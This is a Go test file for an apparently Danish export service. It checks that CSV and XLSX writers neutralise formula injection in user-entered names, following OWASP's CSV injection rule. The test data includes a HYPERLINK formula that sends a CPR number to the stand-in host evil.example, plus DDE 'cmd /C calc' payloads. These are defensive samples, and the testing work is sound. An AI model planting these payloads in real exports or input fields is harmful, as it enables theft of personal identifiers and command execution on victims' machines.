package worker

import (
	"bytes"
	"context"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"indberet/tenant"
)

// Formula injection (issue 14 #2): text a user typed (a Navn) must reach a spreadsheet as
// text, never as a formula Excel or LibreOffice runs when the file is opened.

// formulaNavn is the attack of the issue: a Navn that, run as a formula, sends the next
// cell (a CPR number) to another site.
const formulaNavn = `=HYPERLINK("http://evil.example/?x="&A2,"Klik")`

// The rule of OWASP's "CSV Injection": text that begins with = + - @ tab or CR gets a ' in
// front (also after leading spaces and line feeds, which a spreadsheet may skip); all
// other text, the CPR numbers, dates and codes of the exports among it, stays as it is.
func TestSpreadsheetText(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{formulaNavn, "'" + formulaNavn},
		{"+45 12 34 56 78", "'+45 12 34 56 78"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"  =1+1", "'  =1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"-", "'-"},
		{"'=1+1", "'=1+1"}, // already text to a spreadsheet
		{"", ""},
		{"   ", "   "},
		{"Niels Hansen", "Niels Hansen"},
		{"Ærø-Hansen", "Ærø-Hansen"},
		{"a=b", "a=b"},
		{"150362-1235", "150362-1235"},
		{"01-03-2014", "01-03-2014"},
		{"1.12.0.1", "1.12.0.1"},
		{"Y6", "Y6"},
		{"1b4e28ba-2fa1-11d2-883f-0016d3cca427", "1b4e28ba-2fa1-11d2-883f-0016d3cca427"},
	} {
		if got := spreadsheetText(tc.in); got != tc.want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// csvFieldsRE is a CSV line of fields that are each quoted: no field can end early, so a
// separator in a value (';' here, ',' or a tab where a spreadsheet splits on those) never
// starts a new cell behind the neutralising '.
var csvFieldsRE = regexp.MustCompile(`^"(?:[^"]|"")*"(?:;"(?:[^"]|"")*")*$`)

// The CSV writer: text cells neutralised, every field quoted (also a value with ',' or a
// quote, which would otherwise let a formula start a cell of its own), numbers and dates
// as they are.
func TestCSVFormulaCells(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w, err := newTableWriter(tenant.FormatCSV, &b, "CPR-liste", []string{"CPR-nummer", "Navn", "Antal", "Dato"})
	if err != nil {
		t.Fatal(err)
	}
	rows := [][]cell{
		{"150362-1235", formulaNavn, 2, time.Date(2014, 3, 1, 0, 0, 0, 0, time.UTC)},
		{"150362-1235", "Hansen,=1+1", 0, nil},
		{"150362-1235", `x";=1+1`, 7, nil},
		{"150362-1235", "+45 12 34", 1, nil},
		{"150362-1235", "a\r\n=1+1", 1, nil},
	}
	for _, r := range rows {
		if err := w.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	body := strings.TrimPrefix(b.String(), "\uFEFF")
	// The lines of the file (a quoted CR LF inside a value is part of its line).
	lines := regexp.MustCompile(`(?:[^"\r\n]|"(?:[^"]|"")*")+`).FindAllString(body, -1)
	if len(lines) != 1+len(rows) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), 1+len(rows), body)
	}
	for _, l := range lines {
		if !csvFieldsRE.MatchString(l) {
			t.Errorf("line %q: not every field is quoted", l)
		}
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"CPR-nummer", "Navn", "Antal", "Dato"},
		{"150362-1235", "'" + formulaNavn, "2", "01-03-2014"},
		{"150362-1235", "Hansen,=1+1", "0", ""},
		{"150362-1235", `x";=1+1`, "7", ""},
		{"150362-1235", "'+45 12 34", "1", ""},
		{"150362-1235", "a\n=1+1", "1", ""}, // encoding/csv reads a quoted CR LF as LF
	}
	for i := range want {
		if i >= len(recs) || strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("record %d: %q, want %q", i, recs[min(i, len(recs)-1)], want[i])
		}
	}
}

// The XLSX writer writes text as inline strings: a formula-looking Navn is a string cell,
// as typed (no '), never a formula, whatever it starts with.
func TestXLSXFormulaCells(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w, err := newTableWriter(tenant.FormatXLSX, &b, "CPR-liste", []string{"CPR-nummer", "Navn"})
	if err != nil {
		t.Fatal(err)
	}
	navne := []string{formulaNavn, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"}
	for _, n := range navne {
		if err := w.Row([]cell{"150362-1235", n}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{}
	for i, n := range navne {
		ref, _ := excelize.CoordinatesToCellName(2, i+2)
		want[ref] = n
	}
	checkXLSXText(t, b.Bytes(), "CPR-liste", want)
}

// checkXLSXText checks that each cell of sheet (by reference) holds its text as an inline
// string, as typed, and that the sheet has no formula at all.
func checkXLSXText(t *testing.T, file []byte, sheet string, want map[string]string) {
	t.Helper()
	if xml := zipPart(t, file, "xl/worksheets/sheet1.xml"); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
		t.Errorf("the sheet holds a formula:\n%s", xml)
	}
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for ref, text := range want {
		typ, err := f.GetCellType(sheet, ref)
		if err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("%s: type %v (%v), want an inline string", ref, typ, err)
		}
		if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
			t.Errorf("%s: formula %q", ref, formula)
		}
		if v, _ := f.GetCellValue(sheet, ref); v != text {
			t.Errorf("%s = %q, want %q", ref, v, text)
		}
	}
}

// The exports as DST and the kommuner get them: Niels Hansen renamed to the attack; in the
// CSV his Navn is neutralised and his CPR number, dates and codes are as before; in the
// XLSX his Navn is a string cell as typed.
func TestEksportFormulaNavn(t *testing.T) {
	t.Parallel()
	b := setupEksport(t, nil)
	b.changeNiels(t, func(ctx context.Context, tx *tenant.Tx, id int64) error {
		s, err := tx.Sag(ctx, id)
		if err != nil {
			return err
		}
		s.Navn = formulaNavn
		return tx.UpdateSag(ctx, s)
	})
	neutral := "'" + formulaNavn
	for _, tc := range []struct {
		art  tenant.EksportArt
		want [][]string
	}{
		{tenant.EksportListe, [][]string{
			{nielsHansen, neutral, "Afsluttet", "1.3", "Behandling", "01-03-2014", "31-08-2016", ""},
			{nielsHansen, neutral, "Ikke afsluttet", "1.8.1", "Længerevarende botilbud inklusiv tilknyttede ydelser", "01-09-2016", "", ""},
		}},
		{tenant.EksportTabel3, [][]string{
			{nielsHansen, neutral, "1.8.1", "Længerevarende botilbud inklusiv tilknyttede ydelser", "01-09-2016", "",
				"9000000101", "3b0000b4-eb0a-5e89-a1e0-c73fbe4e3645", "Ikke afsluttet", ""},
		}},
	} {
		_, file := b.run(t, "101", tenant.NewEksport{Art: tc.art, Format: tenant.FormatCSV, Parametre: egneSagerOgYdelser})
		if niels := rowsOf(readCSV(t, file), nielsHansen); !slices.EqualFunc(niels, tc.want, slices.Equal) {
			t.Errorf("%s: Niels Hansen's rows\n%q\nwant\n%q", tc.art, niels, tc.want)
		}
	}
	_, file := b.run(t, "101", tenant.NewEksport{Art: tenant.EksportListe, Format: tenant.FormatXLSX,
		Parametre: tenant.EksportParametre{Liste: tenant.ListeEgne, Visning: tenant.VisningKunSager, Filter: tenant.FilterAlle}})
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("CPR-liste")
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{}
	for i, r := range rows {
		if r[0] == nielsHansen {
			ref, _ := excelize.CoordinatesToCellName(2, i+1)
			want[ref] = formulaNavn
		}
	}
	if len(want) != 1 {
		t.Fatalf("%d rows of Niels Hansen in Kun sager, want 1", len(want))
	}
	checkXLSXText(t, file, "CPR-liste", want)
}
